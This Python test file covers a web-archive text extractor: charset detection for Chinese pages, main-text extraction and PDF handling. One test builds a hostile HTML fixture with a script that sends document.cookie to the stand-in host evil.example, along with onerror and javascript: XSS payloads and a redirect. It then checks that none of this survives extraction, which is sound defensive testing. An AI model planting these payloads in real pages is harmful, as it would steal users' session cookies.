"""Reading the text of a capture: main text of HTML in any charset, PDFs, hostile pages."""

from __future__ import annotations

from sources.archive.text import HTML, NONE, PDF, PLAIN, decode, extract, media_type
from tests.archive.helpers import make_pdf

ARTICLE = (
    "<p>國家統計局公佈，2023年全國城鎮新增就業1244萬人，比上年多增38萬人。</p>"
    "<p>十六至二十四歲勞動力失業率為百分之十四點九，較上月下降零點六個百分點。</p>"
    "<p>專家認為，青年就業壓力仍然不小，政策需要持續發力，以穩定就業形勢。</p>"
)


def page(body: str, head: str = "") -> str:
    return (
        f"<!DOCTYPE html><html><head>{head}<title>統計公報</title></head><body>"
        "<nav><a href='/'>首頁</a> | <a href='/news'>新聞</a></nav>"
        f"<article><h1>2023年統計公報</h1>{body}</article>"
        "<footer>版權所有 2023</footer></body></html>"
    )


def test_it_reads_big5_declared_by_the_server():
    body = page(ARTICLE).encode("big5")
    extracted = extract(body, "text/html; charset=big5")
    assert extracted.method == HTML
    assert "全國城鎮新增就業1244萬人" in extracted.text
    assert extracted.encoding == "big5hkscs"


def test_it_reads_big5_declared_only_in_the_page():
    body = page(ARTICLE, head='<meta http-equiv="Content-Type" content="text/html; charset=big5">')
    extracted = extract(body.encode("big5"), "text/html")
    assert "勞動力失業率為百分之十四點九" in extracted.text


def test_it_reads_gb18030_even_when_the_page_says_gb2312():
    # 䶮 (U+4DAE) is in GB18030 but not in GB2312 or GBK: a GB2312 decoder would fail.
    text = ARTICLE.replace("專家", "專家龑䶮")
    body = page(text, head='<meta charset="gb2312">').encode("gb18030")
    extracted = extract(body, "text/html")
    assert extracted.encoding == "gb18030"
    assert "專家龑䶮認為" in extracted.text


def test_it_detects_an_undeclared_chinese_encoding():
    body = page(ARTICLE * 3).encode("gb18030")
    text, codec = decode(body, "text/html")
    assert "新增就業1244萬人" in text
    assert codec in ("gb18030", "gbk", "gb2312")


def test_a_wrong_declaration_falls_back_to_detection():
    body = page(ARTICLE * 3).encode("big5")
    extracted = extract(body, "text/html; charset=utf-8")
    assert "新增就業1244萬人" in extracted.text


def test_it_keeps_the_main_text_and_leaves_out_the_page_furniture():
    extracted = extract(page(ARTICLE).encode(), "text/html; charset=utf-8")
    assert "1244萬人" in extracted.text
    assert "版權所有" not in extracted.text


def test_hostile_markup_and_script_never_reach_the_text():
    hostile = page(
        ARTICLE
        + "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        + "<img src=x onerror=alert(1)><iframe src='javascript:alert(2)'></iframe>"
        + "<style>body{display:none}</style><p>收入<b onclick=alert(3)>增長</b>五成。</p>",
        head="<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example'>",
    )
    text = extract(hostile.encode(), "text/html").text
    assert "1244萬人" in text
    traces = ("<script", "document.cookie", "onerror", "alert(", "evil.example", "display:none")
    for trace in traces:
        assert trace not in text


def test_it_reads_a_pdf():
    body = make_pdf(["Employment report 2023", "New urban jobs: 12,440,000 (up 380,000)."])
    extracted = extract(body, "application/pdf")
    assert extracted.method == PDF
    assert "12,440,000" in extracted.text


def test_a_pdf_is_known_by_its_bytes_when_the_server_does_not_say():
    assert media_type("application/octet-stream", make_pdf(["x"])) == PDF
    assert media_type("", b"<!doctype html><html></html>") == HTML


def test_a_broken_pdf_gives_no_text_rather_than_an_error():
    extracted = extract(b"%PDF-1.4\nthis is not really a PDF", "application/pdf")
    assert extracted == extracted.__class__("", PDF)


def test_plain_text_and_other_types():
    assert extract("一千二百萬".encode("big5"), "text/plain; charset=big5").method == PLAIN
    assert extract(b"\x89PNG\r\n", "image/png").method == NONE
